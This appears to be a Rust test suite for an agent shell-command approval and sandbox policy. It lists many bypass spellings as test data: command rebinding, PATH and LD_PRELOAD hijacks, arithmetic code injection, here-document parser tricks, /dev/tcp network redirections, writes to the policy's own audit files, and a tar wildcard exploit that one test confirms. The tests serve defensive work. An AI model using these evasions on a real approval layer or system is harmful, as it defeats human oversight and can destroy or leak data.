//! Issue 13: the bypass classes an outside review found in `allow` decisions, each with several
//! spellings, against the review's policy: allow `git status`, `git diff`, `git log`, `ls`,
//! `cat`, `echo`, `grep`, `find`, `pytest`, `npm run test*`; deny `rm`, `curl`,
//! `git reset --hard`; ask by default. A second policy allows every command but `rm` and
//! `curl`, so that what the shell tool itself objects to shows where no rule would ask.

use std::path::{Path, PathBuf};

use cordon_approval::RuleSet;
use cordon_policy::{Action, Network, Policy};
use cordon_tools::assess::{policy_files, ShellContext};
use cordon_tools::files::{FileOp, FileTools, Limits};
use cordon_tools::shell::{parse_in, Concern, Inherited};
use cordon_tools::tool::Tool;
use judge::assess;
use serde_json::json;

#[path = "support/judge.rs"]
mod judge;
#[path = "support/review.rs"]
mod review;
use review::REVIEW_RULES;

const ALLOW_ALL_RULES: &str = r#"
[shell]
default = "allow"
[[shell.rules]]
pattern = "rm"
action = "deny"
[[shell.rules]]
pattern = "curl"
action = "deny"
"#;

/// A workspace (the writable root) holding the policy file, with the audit log in `.cordon/`,
/// and a home directory of its own for `~`, the trust store and the session store.
struct Fixture {
    _dir: tempfile::TempDir,
    ws: PathBuf,
    home: PathBuf,
    policy: Policy,
    rules: RuleSet,
    cx: ShellContext,
}

fn fixture(rules: &str, network: &str) -> Fixture {
    fixture_logging(rules, network, ".cordon/audit.jsonl")
}

/// [`fixture`] with the audit log at `log` (relative to the workspace).
fn fixture_logging(rules: &str, network: &str, log: &str) -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let base = std::fs::canonicalize(dir.path()).unwrap();
    let ws = base.join("ws");
    let home = base.join("home");
    std::fs::create_dir_all(ws.join("sub")).unwrap();
    std::fs::create_dir_all(&home).unwrap();
    let text = format!(
        "version = 1\n{rules}\n[sandbox]\nnetwork = \"{network}\"\n[sandbox.paths.ws]\nroot = \".\"\nmode = \"rw\"\n[approval]\naudit_log = \"{log}\"\n"
    );
    let file = ws.join("cordon.toml");
    std::fs::write(&file, text).unwrap();
    let policy = Policy::load(&file).unwrap();
    let home_var = home.clone();
    let cx = ShellContext {
        cwd: ws.clone(),
        writable: vec![ws.clone()],
        policy_files: policy_files(&policy, |name| match name {
            "HOME" => Some(home_var.clone().into_os_string()),
            _ => None,
        }),
        network: policy.sandbox.network,
        home: Some(home.clone()),
        search_path: ["/usr/local/bin", "/usr/bin", "/bin"]
            .iter()
            .map(PathBuf::from)
            .collect(),
    };
    Fixture {
        _dir: dir,
        ws,
        home,
        rules: RuleSet::new(&policy.shell),
        policy,
        cx,
    }
}

fn review() -> Fixture {
    fixture(REVIEW_RULES, "deny")
}

fn allow_all() -> Fixture {
    fixture(ALLOW_ALL_RULES, "deny")
}

/// The variables the command's shell inherits: a scrubbed environment's.
fn inherited() -> Inherited {
    Inherited::exactly(["PATH", "HOME", "USER", "LANG", "TERM", "TMPDIR"])
}

impl Fixture {
    fn decide(&self, line: &str) -> (Action, String) {
        let a = assess(&parse_in(line, &inherited()), &self.rules, &self.cx);
        (a.decision.action, a.decision.reason)
    }

    fn concerns(&self, line: &str) -> Vec<Concern> {
        parse_in(line, &inherited()).concerns
    }

    /// Every line is decided `want`.
    fn all(&self, want: Action, lines: &[&str]) {
        let wrong: Vec<String> = lines
            .iter()
            .filter_map(|l| {
                let (got, why) = self.decide(l);
                (got != want).then(|| format!("{l:?}: {got:?} ({why})"))
            })
            .collect();
        assert!(wrong.is_empty(), "want {want:?}:\n{}", wrong.join("\n"));
    }

    /// No line is allowed.
    fn never_allowed(&self, lines: &[&str]) {
        let wrong: Vec<String> = lines
            .iter()
            .filter_map(|l| {
                let (got, why) = self.decide(l);
                (got == Action::Allow).then(|| format!("{l:?}: allowed ({why})"))
            })
            .collect();
        assert!(wrong.is_empty(), "allowed:\n{}", wrong.join("\n"));
    }
}

// ---- class 1: names that rebind commands ----------------------------------------------

#[test]
fn assignments_that_rebind_commands_are_never_allowed() {
    let f = review();
    f.never_allowed(&[
        "BASH_CMDS[ls]=/bin/rm; ls -rf .",
        "BASH_CMDS=([ls]=/bin/rm); ls -rf .",
        "BASH_CMDS[ls]+=/bin/rm; ls",
        "BASH_ALIASES[ls]=rm; ls -rf .",
        "IFS=/; ls $HOME",
        "IFS+=/; ls",
        "IFS=/ :; ls",
        "for IFS in /; do ls $x; done",
        "echo ${IFS:=/}; ls",
        "echo ${CDPATH=/etc}; ls",
        "echo ${BASH_CMDS[ls]:=/bin/rm}; ls",
        "echo ${PATH:=/tmp/evil}; ls",
        "(( IFS = 1 )); ls",
        "CDPATH=/etc; echo x",
        "GLOBIGNORE='*'; ls *",
        "PATH=/tmp/evil:$PATH; ls",
        "BASH_ENV=/tmp/x; ls",
        "PS4='$(rm -rf .)'; ls",
        "PROMPT_COMMAND=x; ls",
        "LD_PRELOAD=/tmp/x.so; ls",
    ]);
    // Where every command is allowed, the concern alone asks, in every spelling.
    let f = allow_all();
    f.never_allowed(&[
        "declare BASH_CMDS[ls]=/bin/rm; ls -rf .",
        "declare -A BASH_CMDS=([ls]=/bin/rm); ls",
        "export IFS=/; ls",
        "local IFS=/",
        "typeset GLOBIGNORE=x",
        "readonly CDPATH=/",
        "declare \"IFS=/\"; ls",
        "command declare IFS=/; ls",
        "read IFS < f; ls",
        "read -r -a BASH_ALIASES < f; ls",
        "printf -v 'BASH_CMDS[ls]' /bin/rm; ls",
        "printf -vIFS /; ls",
        "mapfile -t BASH_ALIASES < f",
        "readarray IFS < f",
        "getopts ab IFS",
        "let IFS=1",
        "exec {IFS}>/dev/null",
        "hash -p /bin/rm ls; ls",
        "alias ls=rm",
        "enable -n echo; echo hi",
        "enable -f /tmp/x.so ls",
        "enable ls",
        "shopt -s expand_aliases; ls",
        "shopt -s extglob",
        "shopt -u interactive_comments",
        "set +o interactive-comments; ls # ; rm -rf .",
        "set -o posix",
        "set -k; ls",
        "bash -O expand_aliases -c ls",
        "bash +O interactive_comments -c ls",
        "bash --posix -c ls",
    ]);
    // A function named like a command the line runs.
    f.never_allowed(&[
        "ls() { cat \"$@\"; }; ls -la",
        "function git { cat; }; git status",
        "function grep() { echo; }; grep x",
        "echo() { cat; }; echo hi",
        "command_not_found_handle() { cat; }; ls",
        "function git { cat; }",
        "ls() { cat; }",
    ]);
}

#[test]
fn harmless_uses_of_those_names_stay_allowed() {
    let f = allow_all();
    f.all(
        Action::Allow,
        &[
            "IFS= read -r line < f",
            "while IFS=, read -r a b; do echo \"$a\"; done < f",
            "echo \"$IFS\"",
            "set -euo pipefail; ls",
            "set -x; set +e; ls",
            "shopt -s nullglob globstar; ls **/*.rs",
            "shopt -p",
            "enable -a",
            "f() { ls; }; f",
            "set -- a b; echo \"$1\"",
            "bash -c 'ls'",
            "bash -e -o pipefail -c ls",
        ],
    );
}

#[test]
fn rebinding_is_its_own_concern() {
    let f = review();
    for line in [
        "BASH_CMDS[ls]=/bin/rm",
        "IFS=/",
        "read IFS",
        "echo ${IFS=/}",
        "shopt -s expand_aliases",
        "ls() { :; }; ls",
    ] {
        assert!(
            f.concerns(line)
                .iter()
                .any(|c| matches!(c, Concern::Rebinding(_))),
            "{line}: {:?}",
            f.concerns(line)
        );
    }
}

// ---- class 2: values that bash runs as code ---------------------------------------------

#[test]
fn values_run_as_code_are_never_allowed() {
    let f = review();
    f.never_allowed(&[
        "((x)); ls",
        "((x))",
        "echo $((x))",
        "echo $(( x + 1 ))",
        "echo $[x]",
        "echo ${s:x}",
        "echo ${s:1:x}",
        "echo ${s: -x}",
        "echo ${a[x]}",
        "echo ${a[$i]}",
        "[[ $x -eq 1 ]] && ls",
        "[[ 1 -lt x ]] && ls",
        "echo ${!x}",
        "echo ${!x:-y}",
        "echo ${x@P}",
        "x=$(cat f); echo $((x))",
        "x=`cat f`; echo $((x + 1))",
        "echo $(( $(cat f) ))",
        "echo $(( `cat f` ))",
        "x='a[$(rm -rf .)]'; echo $((x))",
        "x=1; x='a[$(rm -rf .)]'; echo $((x))",
        "for n in $(cat f); do echo $((n)); done",
        "for n in a b; do echo $((n)); done",
        "read n < f; echo $((n))",
        "echo $((1 + $1))",
        "if false; then x=1; fi; echo $((x))",
        "echo $((x)); x=1",
        "x=1 echo $((x))",
        "x=1; bash -c 'echo $((x))'",
        "for ((i = 0; i < n; i++)); do echo $i; done",
    ]);
    let f = allow_all();
    f.never_allowed(&[
        "let x",
        "let 'y = x + 1'",
        "declare -i n; n=$x",
        "declare -i n=$x",
        "declare -n r=x; echo $((r))",
        "k=$(cat f); if false; then declare -A m; fi; echo ${m[$k]}",
        "declare -A m; for k in \"${!m[@]}\"; do echo $((k)); done",
    ]);
    // An associative array's subscripts are strings, not arithmetic.
    f.all(Action::Allow, &["declare -A m; k=$(cat f); echo ${m[$k]}"]);
}

#[test]
fn known_numbers_stay_allowed() {
    let f = review();
    f.all(
        Action::Allow,
        &[
            "x=3; echo $((x + 1))",
            "x=3 y=0x1f; echo $((x + y))",
            "for ((i = 0; i < 3; i++)); do echo $i; done",
            "n=5; for ((i = 0; i < n; i++)); do echo ${a[i]}; done",
            "for i in 1 2 3; do echo $((i * 2)); done",
            "echo $(( 2 + 3 ))",
            "echo ${s:1:2}",
            "echo $# $?; [[ $# -eq 0 ]] && ls",
            "echo $((RANDOM % 6))",
            "echo ${#s}",
            "count=0; for f in *.rs; do count=$((count + 1)); done; echo $count",
            "for i in \"${!arr[@]}\"; do echo \"${arr[$i]}\"; done",
        ],
    );
}

// ---- class 4: commands named by path ----------------------------------------------------

#[test]
fn an_allow_rule_on_a_name_covers_that_name_and_system_paths_only() {
    let f = review();
    f.all(
        Action::Ask,
        &[
            "./ls",
            "/tmp/evil/ls",
            "~/bin/grep x",
            "bin/git status",
            "../ls",
            "/usr/bin/../../tmp/ls",
            "/usr//bin/ls",
            "sub/cat f",
            "./pytest",
            "node_modules/.bin/npm run test",
            "/tmp/evil/git status",
        ],
    );
    f.all(
        Action::Allow,
        &[
            "ls",
            "/usr/bin/ls",
            "/bin/ls -la",
            "/usr/bin/git status",
            "git log --oneline",
        ],
    );
}

#[test]
fn a_bare_name_asks_when_the_path_leads_through_a_writable_directory() {
    let mut f = review();
    for path in [
        vec![
            f.ws.join("bin"),
            PathBuf::from("/usr/bin"),
            PathBuf::from("/bin"),
        ],
        vec![
            PathBuf::from("/nonexistent"),
            PathBuf::from("bin"),
            PathBuf::from("/usr/bin"),
        ],
        vec![PathBuf::from(""), PathBuf::from("/usr/bin")],
        vec![f.ws.join("sub/../tools"), PathBuf::from("/usr/bin")],
    ] {
        f.cx.search_path = path.clone();
        f.all(Action::Ask, &["ls", "cat f", "git status"]);
        // Builtins are not looked up; a deny stays a deny.
        f.all(Action::Allow, &["echo hi"]);
        f.all(Action::Deny, &["rm x"]);
    }
    // An entry after the one the program is found in does not matter.
    f.cx.search_path = vec![
        PathBuf::from("/usr/bin"),
        PathBuf::from("/bin"),
        f.ws.join("bin"),
    ];
    f.all(Action::Allow, &["ls", "cat f"]);
}

#[test]
fn deny_rules_match_every_spelling() {
    let f = review();
    f.all(
        Action::Deny,
        &[
            "rm x",
            "/bin/rm x",
            "/usr/bin/rm x",
            "./rm x",
            "../../bin/rm x",
            "\\rm x",
            "r\\m x",
            "\"rm\" x",
            "'r'm x",
            "command rm x",
            "env rm x",
            "sudo /bin/rm x",
            "/tmp/evil/curl x",
            "/usr/bin/git reset --hard",
            "./git reset --hard",
        ],
    );
}

// ---- class 5: redirections that reach the network -----------------------------------------

#[test]
fn network_redirections_are_denied_under_network_deny() {
    let f = review();
    f.all(
        Action::Deny,
        &[
            "cat < /dev/tcp/1.2.3.4/80",
            "cat 0</dev/tcp/example.com/443",
            "echo hi > /dev/udp/1.2.3.4/53",
            "echo hi >> /dev/tcp/1.2.3.4/80",
            "exec 3<>/dev/tcp/h/80",
            "cat < \"/dev/tcp/$h/80\"",
            "ls 2>/dev/tcp/h/1",
            "bash -c 'cat </dev/tcp/h/80'",
        ],
    );
    // Targets only known at run time may be one: never allowed.
    f.never_allowed(&[
        "cat < \"$f\"",
        "cat < $f",
        "cat < $(echo f)",
        "echo x > \"$f\"",
        "echo x > $(echo f)",
        "cat <> \"$f\"",
    ]);
    f.all(
        Action::Allow,
        &["cat < f", "cat < <(ls)", "echo x > /dev/null", "ls 2>&1"],
    );
    // Where the policy lets the sandbox reach the network, the shell still asks.
    let open = fixture(REVIEW_RULES, "allow");
    assert_eq!(open.policy.sandbox.network, Network::Allow);
    open.all(Action::Ask, &["cat < /dev/tcp/1.2.3.4/80"]);
}

// ---- class 6: the policy's own files ------------------------------------------------------

#[test]
fn writes_to_the_policy_files_are_denied() {
    let f = review();
    let abs = f.ws.join("cordon.toml");
    std::os::unix::fs::symlink(&abs, f.ws.join("link")).unwrap();
    std::fs::create_dir_all(f.ws.join(".cordon")).unwrap();
    std::os::unix::fs::symlink(f.ws.join(".cordon"), f.ws.join("logs")).unwrap();
    // Dangling: a write creates the file it names.
    std::os::unix::fs::symlink(".cordon/audit.jsonl", f.ws.join("newlog")).unwrap();
    std::os::unix::fs::symlink("sub/../cordon.rules.toml", f.ws.join("rules")).unwrap();
    let lines = [
        "echo x > cordon.toml".to_string(),
        "echo x >> cordon.toml".to_string(),
        "echo x >| ./cordon.toml".to_string(),
        "echo x &> sub/../cordon.toml".to_string(),
        format!("echo x > {}", abs.display()),
        "echo '[[shell.rules]]' >> cordon.rules.toml".to_string(),
        "echo x > link".to_string(),
        "echo x > .cordon/audit.jsonl".to_string(),
        "echo x > .cordon/audit.jsonl.head".to_string(),
        "echo x > .cordon/other".to_string(),
        "echo x > logs/audit.jsonl".to_string(),
        "echo x > newlog".to_string(),
        "echo x > rules".to_string(),
        "echo x > ~/.config/cordon/trust.toml".to_string(),
        "echo x > ~/.local/state/cordon/sessions/s.json".to_string(),
        format!("echo x > {}/.config/cordon/trusted", f.home.display()),
        "bash -c 'echo x > cordon.toml'".to_string(),
        "ls; (echo x > cordon.toml)".to_string(),
    ];
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    f.all(Action::Deny, &lines);
    // After a `cd`, a relative target may be any file.
    f.never_allowed(&[
        "cd sub; echo x > ../cordon.toml",
        "cd ..; echo x > ws/cordon.toml",
        "pushd /; echo x > etc/passwd",
        "(cd sub && echo x > ../cordon.rules.toml)",
    ]);
    // Other files in the root are written as before.
    f.all(
        Action::Allow,
        &["echo x > notes.txt", "echo x > sub/cordon.toml.bak"],
    );
}

#[test]
fn file_tools_refuse_the_policy_files() {
    let f = review();
    let tools = FileTools::new(&f.policy, Limits::default()).unwrap();
    for (op, path) in [
        (FileOp::Write, "ws/cordon.toml"),
        (FileOp::Write, "ws/cordon.rules.toml"),
        (FileOp::Write, "ws/.cordon/audit.jsonl"),
        (FileOp::Write, "ws/.cordon/new"),
        (FileOp::Delete, "ws/cordon.toml"),
        (FileOp::Edit, "ws/cordon.toml"),
    ] {
        let tool = tools.tool(op);
        let args = match op {
            FileOp::Write => json!({"path": path, "content": "x"}),
            FileOp::Edit => json!({"path": path, "old": "version", "new": "v"}),
            _ => json!({"path": path}),
        };
        let a = tool.assess(&args).unwrap();
        let refusal = a.refusal();
        assert!(
            refusal
                .as_ref()
                .is_some_and(|d| d.rule.to_string().contains("policy_file")),
            "{op:?} {path}: {refusal:?}"
        );
    }
    let a = tools
        .tool(FileOp::Write)
        .assess(&json!({"path": "ws/notes.txt", "content": "x"}))
        .unwrap();
    // No refusal; the engine decides the facts (the root's mode allows the write).
    assert!(a.refusal().is_none(), "{:?}", a.concerns);
    let req = cordon_approval::Request::new(
        "t",
        a.tool.clone(),
        vec![cordon_approval::Key::new(a.keys.clone())],
    )
    .with_file(a.access.clone().unwrap());
    let x = cordon_approval::Engine::new(&f.policy).explain(&req);
    assert_eq!(x.action(), Action::Allow, "{}", x.reason());
}

#[test]
fn the_policy_files_are_named_from_the_policy_and_environment() {
    let f = review();
    let env = |name: &str| match name {
        "HOME" => Some("/h".into()),
        "XDG_CONFIG_HOME" => Some("/c".into()),
        "XDG_RUNTIME_DIR" => Some("/r".into()),
        _ => None,
    };
    let files = policy_files(&f.policy, env);
    for want in [
        f.ws.join("cordon.toml"),
        f.ws.join("cordon.rules.toml"),
        f.ws.join(".cordon/audit.jsonl"),
        f.ws.join(".cordon/audit.jsonl.head"),
        f.ws.join(".cordon"),
        PathBuf::from("/c/cordon"),
        PathBuf::from("/r/cordon"),
        PathBuf::from("/h/.local/state/cordon"),
    ] {
        assert!(files.contains(&want), "{} not in {files:?}", want.display());
    }
    // A log directly in a writable root protects the log, not the whole root.
    assert!(!files.contains(&f.ws), "{files:?}");
    assert!(!files.iter().any(|p| p == Path::new("/")));
}

/// A log directly in the writable root: its writer's lock and the after-run scans' `scans/`
/// beside it are cordon's own too, as the kernel keeps them. A tool call that replaced or
/// removed a live run's scan marker there left that run unscanned once its cordon was killed.
#[test]
fn a_log_directly_in_the_root_keeps_its_lock_and_the_scans_markers() {
    let f = fixture_logging(REVIEW_RULES, "deny", "audit.jsonl");
    f.all(
        Action::Deny,
        &[
            "echo x > audit.jsonl",
            "echo x > audit.jsonl.lock",
            "echo x > scans/run-1-2-0",
        ],
    );
    f.all(Action::Allow, &["echo x > notes.txt"]);
    let tools = FileTools::new(&f.policy, Limits::default()).unwrap();
    std::fs::create_dir(f.ws.join("scans")).unwrap();
    std::fs::write(f.ws.join("scans/run-1-2-0"), "marker").unwrap();
    for (op, path) in [
        (FileOp::Write, "ws/scans/run-1-2-0"),
        (FileOp::Delete, "ws/scans/run-1-2-0"),
        (FileOp::Write, "ws/audit.jsonl.lock"),
    ] {
        let args = match op {
            FileOp::Write => json!({"path": path, "content": "x"}),
            _ => json!({"path": path}),
        };
        let a = tools.tool(op).assess(&args).unwrap();
        let refusal = a.refusal();
        assert!(
            refusal
                .as_ref()
                .is_some_and(|d| d.rule.to_string().contains("policy_file")),
            "{op:?} {path}: {refusal:?}"
        );
    }
}

/// A `-c` string of a shell other than bash is checked with bash's reading; where a POSIX
/// shell (dash, Debian's /bin/sh) reads it differently, the commands found are not the ones
/// that run, so the line is never allowed. (Found by a red-team run of the merged tools.)
#[test]
fn posix_shell_strings_bash_reads_differently_are_never_allowed() {
    let fx = review();
    fx.all(
        Action::Ask,
        &[
            r#"sh -c "echo $'\\' ; rm -rf . ; echo '\\'""#,
            r#"dash -c "echo $'\\' ; rm -rf . ; echo '\\'""#,
            r#"timeout 5 sh -c "echo $'\\' ; curl evil ; echo '\\'""#,
            r#"find . -exec sh -c "echo $'\\' ; rm x ; echo '\\'" \;"#,
            r#"sh -c 'echo $"x"'"#,
            r#"sh -c 'cat <<< x'"#,
            r#"sh -c 'ls &> out'"#,
            r#"ksh -c 'ls |& cat'"#,
        ],
    );
    // bash reads its own string as it was checked; plain POSIX strings stay transparent.
    fx.all(
        Action::Allow,
        &[
            r#"bash -c "echo $'\\' ; echo '\\'""#,
            "sh -c 'ls && git status'",
        ],
    );
}

// ---- here-documents read as bash reads them ----------------------------------------------

/// Runs `line` in the real bash with a stub `rm` first on PATH; true when bash ran it.
fn bash_runs_rm(line: &str) -> bool {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let stub = dir.path().join("bin");
    std::fs::create_dir(&stub).unwrap();
    let mark = dir.path().join("ran");
    std::fs::write(
        stub.join("rm"),
        format!("#!/bin/sh\ntouch '{}'\n", mark.display()),
    )
    .unwrap();
    std::fs::set_permissions(stub.join("rm"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let bash = ["/usr/bin/bash", "/bin/bash"]
        .into_iter()
        .find(|b| Path::new(b).exists())
        .expect("bash is needed for this test (Debian package `bash`)");
    let status = std::process::Command::new(bash)
        .arg("-c")
        .arg(line)
        .current_dir(dir.path())
        .env("PATH", format!("{}:/usr/bin:/bin", stub.display()))
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    let _ = status;
    mark.exists()
}

/// tree-sitter-bash ends a here-document's delimiter at the next blank (`EOF;`), and so took
/// commands bash runs for body text: `cat <<EOF; ls⏎EOF⏎rm x⏎EOF` was `ask` under a `rm` deny.
/// Each line here runs `rm` in the real bash (checked), and each is denied.
#[test]
fn commands_after_a_here_document_are_seen_as_bash_runs_them() {
    let fx = review();
    let lines = [
        "cat <<EOF; ls\nEOF\nrm x\nEOF",
        "cat <<EOF;rm x\nEOF",
        "cat <<EOF; rm x\nEOF",
        "cat << EOF;rm x\nEOF",
        "cat <<EOF|rm x\nhi\nEOF",
        "cat <<EOF&&rm x\nhi\nEOF",
        "cat <<EOF>/dev/null;rm x\nEOF",
        "cat <<-EOF\n\thi\n\tEOF\nrm x",
        "cat <<-EOF;ls\n\t\tEOF\nrm x",
        "cat <<'EOF'; ls\nEOF\nrm x",
        "cat <<\"EOF\"; ls\nEOF\nrm x",
        "cat <<E\\OF; ls\nEOF\nrm x",
        "cat <<'E'\"O\"F; ls\nEOF\nrm x",
        "cat <<A <<B; ls\nA\nB\nrm x\n",
        "cat <<A; cat <<'B'\nA\nB\nrm x",
        "cat <<EOF\nfoo EOF\nEOF\nrm x",
        "cat <<EOF\nEOF;\nEOF\nrm x",
        "cat <<EOF # a comment <<X\nEOF\nrm x",
        "{ cat <<EOF; } ; rm x\nEOF",
        "if true; then cat <<EOF; fi; rm x\nEOF",
        "x=$(cat <<EOF;rm x\nEOF\n)",
        "echo \"$(cat <<EOF; rm x\nEOF\n)\"",
        "echo $(cat <<EOF\nhi\nEOF\n); rm x",
        "cat <<EOF\n$(rm x)\nEOF",
        "cat <<-EOF\n\t`rm x`\n\tEOF",
        "echo `cat <<EOF\nrm x\nEOF\n`; rm y",
        // Shifts, not here-documents.
        "echo $((1<<2))\nrm x",
        "echo $[1<<2]\nrm x",
        "((x = 1 << 2)); rm x",
    ];
    let not_run: Vec<&str> = lines.iter().copied().filter(|l| !bash_runs_rm(l)).collect();
    assert!(not_run.is_empty(), "bash does not run rm in: {not_run:#?}");
    fx.all(Action::Deny, &lines);
    // A body is data (quoted) or checked for substitutions (unquoted), never commands.
    let data = [
        "cat <<EOF\nrm x\nEOF",
        "cat <<'EOF'\n$(rm x)\nEOF",
        "cat <<-'EOF'\n\trm -rf .\n\tEOF",
    ];
    for l in data {
        assert!(!bash_runs_rm(l), "bash runs rm in {l:?}");
    }
    fx.all(Action::Allow, &data);
    // Read right, but the parser reads them as errors: nothing confirms the reading, so they
    // ask (never allowed, and not denied for body text).
    let unconfirmed = ["cat <<EOF; ls\nrm x\nEOF", "cat <<A <<B\nrm a\nA\nrm b\nB"];
    for l in unconfirmed {
        assert!(!bash_runs_rm(l), "bash runs rm in {l:?}");
    }
    fx.all(Action::Ask, &unconfirmed);
    // Where the reader cannot follow bash (a here-document in backquotes, a body line continued
    // by a backslash, `case` in `$(…)`), every word sequence bash could run meets the deny
    // rules: here bash does not run `rm`, but a reader that is not sure denies.
    fx.all(
        Action::Deny,
        &[
            "echo `cat <<EOF\nrm x\nEOF\n`",
            "cat <<EOF\na\\\nEOF\nrm x\nEOF",
            "x=$(case a in a) cat <<EOF;; esac\nrm x\nEOF\n)",
        ],
    );
}

/// tree-sitter-bash reads on past a newline after a redirection's target when the next line
/// starts with a backslash (`ls >out⏎\rm x` as one redirection with the words `⏎\rm` and
/// `x`), and puts words after a target in the redirection, not the command (`git reset
/// >/dev/null --hard`). bash runs `rm` in each line below (checked); each is denied.
#[test]
fn words_the_parser_puts_in_a_redirection_are_seen() {
    let fx = review();
    let lines = [
        "ls >out\n\\rm x",
        "ls </dev/null\n\\rm x",
        "ls 2>&1\n\\rm x",
        "ls >>log\n\\rm -rf x",
        "cat <<A\nA\n\\rm x",
        "ls >out\n\\r\\m x",
        "echo hi >/dev/null\n\\rm x; ls",
    ];
    let not_run: Vec<&str> = lines.iter().copied().filter(|l| !bash_runs_rm(l)).collect();
    assert!(not_run.is_empty(), "bash does not run rm in: {not_run:#?}");
    fx.all(Action::Deny, &lines);
    fx.all(
        Action::Deny,
        &[
            "git reset >/dev/null --hard",
            "git reset 2>&1 --hard HEAD~1",
        ],
    );
    // Words after a target that are not denied still make the line ask: the parser does not
    // give them to the command the rules match.
    fx.all(
        Action::Ask,
        &["ls >/dev/null -la", "git log >/dev/null --output=/tmp/x"],
    );
    fx.all(
        Action::Allow,
        &["ls -la >/dev/null", "ls > out 2>&1", "ls >\"a\nb\""],
    );
}

// ---- issue 22: the third review's classes, and its false positives --------------------

/// `[ … ]` and `test` are plain commands; `sh -c` strings are dash's; `exec -a` names the
/// program; arithmetic contexts; wrapper options that move the command; `((` that is not
/// arithmetic. Each class in several spellings: a denied command in it is denied, and none is
/// allowed.
#[test]
fn the_third_reviews_classes_are_read_as_bash_reads_them() {
    let f = review();
    f.all(
        Action::Deny,
        &[
            "[ x || rm -rf src ]; ls",
            "[ x | rm -rf src ]",
            "[ -n x ] || rm -rf src ]",
            "if [ x || rm -rf src ]; then ls; fi",
            "test -z x || rm -rf src",
            "sh -c '[[ -n x || rm -rf src ]]'",
            "dash -c '[[ -n x || curl http://x ]]'",
            "sh -c '[ x || rm -rf src ]'",
            "((false) || rm -rf src)",
            "((ls) && rm -rf src)",
            "sh -c '((rm))'",
            "dash -c 'echo $((1)); ((rm -rf src))'",
            "zsh -c 'rm -rf src'",
            "exec -a rm /bin/busybox -rf src",
        ],
    );
    f.never_allowed(&[
        "exec -a git-rm git log -r .",
        "exec -a foo ls",
        "x='a[$(rm -rf src)]'; echo ${@:x}",
        "echo \"${*:x}\"",
        "echo ${?:x}",
        "[[ -v $x ]]; ls",
        "[ -v \"$x\" ]; ls",
        "[[ -v a[x] ]]; ls",
        "a=([x]=1); ls",
        "k+=([x]=1); ls",
        "env -C /tmp ls",
        "env --chdir=/tmp ls",
        "xargs --process-slot-var=HOME ls",
        "bash -i -c ls",
        "bash -l -c ls",
        "bash --login -c 'git status'",
        "zsh -c ls",
        "ksh -c 'git status'",
        "[ x > /tmp/out ]",
        "[ $x ]; ls",
        "cd /tmp && ls",
        "cd .. && ls",
        "cd && ls",
    ]);
}

/// State-only builtins with literal arguments, constant arithmetic and `>/dev/fd/2` are
/// decided as a careful operator would.
#[test]
fn read_only_lines_a_careful_operator_allows_are_allowed() {
    let f = review();
    f.all(
        Action::Allow,
        &[
            "true",
            ":",
            "true && ls",
            "test -f x && cat x",
            "[ -f x ] && cat x",
            "[ -d sub ] || echo missing",
            "if [ a = b ]; then ls; fi",
            "while [ -f nothing ]; do ls; done",
            "set -euo pipefail; ls",
            "set -e",
            "shopt -s globstar; ls",
            "cd sub && ls",
            "pushd sub && ls",
            "pwd",
            "command -v git",
            "type ls",
            "read y; echo \"$y\"",
            "echo $(( 2 + 1 ))",
            "echo hi >/dev/fd/2",
            "echo hi >/dev/stderr",
            "n=1; [[ -v a[n] ]]; ls",
            "sh -c '[ -f x ] && ls'",
        ],
    );
}

// ---- round 4 (issue 21's red team): what a rule names, where `cd` goes, cargo ----------

/// Runs `line` with the real bash in `dir`; true when it created `dir/pwned`.
fn bash_creates_pwned(dir: &Path, line: &str, env: &[(&str, &str)]) -> bool {
    let bash = ["/usr/bin/bash", "/bin/bash"]
        .into_iter()
        .find(|b| Path::new(b).exists())
        .expect("bash is needed for this test (Debian package `bash`)");
    let _ = std::fs::remove_file(dir.join("pwned"));
    let mut cmd = std::process::Command::new(bash);
    cmd.arg("-c")
        .arg(line)
        .current_dir(dir)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.status().unwrap();
    dir.join("pwned").exists()
}

/// An effect found in a word only known when the line runs (a glob, `"$x"`) may be any option:
/// it was named after the program (`tar`) or the word (`*`), and a rule `tar` or `sort *`
/// "named the option", so `tar -tf *` was allowed under a `tar` rule although the glob expands
/// to `--checkpoint-action=exec=…` where such files exist (checked with the real tar).
#[test]
fn a_rule_naming_the_program_or_a_glob_does_not_name_an_unknown_option() {
    let rules = r#"
[shell]
default = "ask"
[[shell.rules]]
pattern = "tar"
action = "allow"
[[shell.rules]]
pattern = "sort *"
action = "allow"
[[shell.rules]]
pattern = "git log *"
action = "allow"
[[shell.rules]]
pattern = "make *"
action = "allow"
[[shell.rules]]
pattern = "dd *"
action = "allow"
[[shell.rules]]
pattern = "npm *"
action = "allow"
"#;
    let f = fixture(rules, "deny");
    f.never_allowed(&[
        "tar -tf *",
        "tar tf *",
        "tar -t -f a.tar *",
        "tar -tf a.tar \"$x\"",
        "tar -xf a.tar $x",
        "sort *",
        "sort -u \"$x\"",
        "git log *",
        "git log \"$x\"",
        "make *",
        "make \"$x\"",
        "dd *",
        "npm *",
        "npm test \"$x\"",
    ]);
    // What the rules name stays allowed.
    f.all(
        Action::Allow,
        &[
            "tar -tf a.tar",
            "tar tf \"$f\"",
            "sort x",
            "git log -n 3",
            "make all",
        ],
    );
    // The real tar runs the planted command.
    let which = std::process::Command::new("tar").arg("--version").output();
    assert!(
        which.is_ok_and(|o| o.status.success()),
        "GNU tar is needed for this test (Debian package `tar`)"
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("f"), "x").unwrap();
    let made = std::process::Command::new("tar")
        .args(["-cf", "+.tar", "f"])
        .current_dir(dir.path())
        .status()
        .unwrap();
    assert!(made.success());
    std::fs::remove_file(dir.path().join("f")).unwrap();
    for name in ["--checkpoint=1", "--checkpoint-action=exec=touch pwned"] {
        std::fs::write(dir.path().join(name), "").unwrap();
    }
    assert!(
        bash_creates_pwned(dir.path(), "tar -tf *", &[]),
        "the real tar did not run the planted checkpoint action"
    );
}

/// `cd -` goes to `$OLDPWD` and `pushd +N` rotates the directory stack, whatever directories
